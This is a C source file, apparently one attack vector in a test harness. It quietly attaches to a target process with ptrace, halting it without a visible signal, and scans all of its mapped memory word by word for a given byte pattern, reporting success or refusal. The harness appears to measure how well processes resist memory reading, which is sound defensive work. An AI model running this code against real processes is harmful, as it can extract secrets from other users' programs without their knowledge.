// SPDX-License-Identifier: Apache-2.0
// PTRACE_PEEKDATA, word by word, of all that is mapped. The victim is stopped meanwhile.
#include <errno.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

#include "attack.h"

#define VECTOR "ptrace peek"

static ssize_t read_victim(void *cls, uint64_t address, void *buffer, size_t len)
{
    size_t done = 0;
    while (done + sizeof(long) <= len) {
        errno = 0;
        long word = ptrace(PTRACE_PEEKDATA, *(pid_t *)cls, (void *)(uintptr_t)(address + done), 0);
        if (word == -1 && errno != 0) {
            return done > 0 ? (ssize_t)done : -1;
        }
        memcpy((char *)buffer + done, &word, sizeof(word));
        done += sizeof(word);
    }
    return (ssize_t)done;
}

int main(int argc, char **argv)
{
    pid_t pid;
    struct attack_needle needle;
    struct attack_map map;
    struct attack_scan scan;
    int status;
    if (!attack_arguments(argc, argv, &pid, &needle)) {
        return ATTACK_NOT_APPLICABLE;
    }
    if (!attack_map_load(pid, &map)) {
        return attack_tell_refused(VECTOR, "its maps cannot be read");
    }
    // SEIZE and INTERRUPT send no signal that the victim would see.
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0 || ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0 ||
        waitpid(pid, &status, __WALL) != pid) {
        attack_map_done(&map);
        return attack_tell_refused(VECTOR, "it cannot be attached to");
    }
    attack_scan(&map, &needle, read_victim, &pid, &scan);
    (void)ptrace(PTRACE_DETACH, pid, 0, 0);
    attack_map_done(&map);
    return attack_tell(VECTOR, &scan);
}
